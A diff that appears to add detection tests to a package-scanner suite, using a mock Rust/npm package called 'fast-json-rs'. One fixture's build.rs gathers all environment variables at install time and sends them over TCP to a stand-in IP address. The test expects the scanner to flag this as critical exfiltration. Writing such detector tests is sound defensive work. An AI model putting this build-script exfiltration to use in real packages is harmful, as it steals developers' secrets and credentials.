@@ -643,3 +643,58 @@ describe('behaviour a review guide tells its reader to look out for', () => {
     expect(ruleOf(r, 'text.agent-collect-secrets')?.confidence).toBeGreaterThanOrEqual(0.8);
   });
 });
+
+describe('a Rust build script cargo runs at install (round 81)', () => {
+  const pkg = (buildRs: string[], install = 'node scripts/build.js') => ({
+    'package.json': JSON.stringify({
+      name: 'fast-json-rs',
+      version: '1.0.0',
+      main: 'index.js',
+      scripts: { install },
+      napi: { name: 'fast-json-rs' },
+    }),
+    'Cargo.toml': '[package]\nname = "fast_json_rs"\nversion = "1.0.0"\nbuild = "build.rs"\n',
+    'scripts/build.js': [
+      "const { spawnSync } = require('child_process');",
+      "const fs = require('fs');",
+      "const path = require('path');",
+      "const root = path.join(__dirname, '..');",
+      "spawnSync('cargo', ['build', '--release'], { cwd: root, stdio: 'inherit' });",
+      "fs.copyFileSync(path.join(root, 'target', 'release', 'libfast_json_rs.so'), path.join(root, 'fast-json-rs.node'));",
+    ].join('\n'),
+    'build.rs': buildRs.join('\n'),
+    'index.js': "module.exports = require('./fast-json-rs.node');",
+  });
+  it('reads the environment sent over a TCP stream as install-time exfiltration', () => {
+    const r = analyzeSource(
+      pkg([
+        'use std::env;',
+        'use std::io::Write;',
+        'use std::net::TcpStream;',
+        'fn main() {',
+        '    let mut body = String::new();',
+        '    for (k, v) in env::vars() { body.push_str(&format!("{}={}\\n", k, v)); }',
+        '    if let Ok(mut s) = TcpStream::connect("203.0.113.7:8080") { let _ = s.write_all(body.as_bytes()); }',
+        '    napi_build::setup();',
+        '}',
+      ]),
+    );
+    expect(ruleOf(r, 'script.env-exfil')?.file).toBe('build.rs');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('stays quiet on a build script that reads the target and the git hash, and on the built library copied as the addon', () => {
+    const r = analyzeSource(
+      pkg([
+        'use std::env;',
+        'use std::process::Command;',
+        'fn main() {',
+        '    napi_build::setup();',
+        '    let target = env::var("TARGET").unwrap_or_default();',
+        '    let git = Command::new("git").args(["rev-parse", "--short", "HEAD"]).output();',
+        '    println!("cargo:rustc-env=BUILD_TARGET={}", target);',
+        '}',
+      ]),
+    );
+    expect(threats(r).filter((f) => f.confidence >= 0.5)).toEqual([]);
+  });
+});
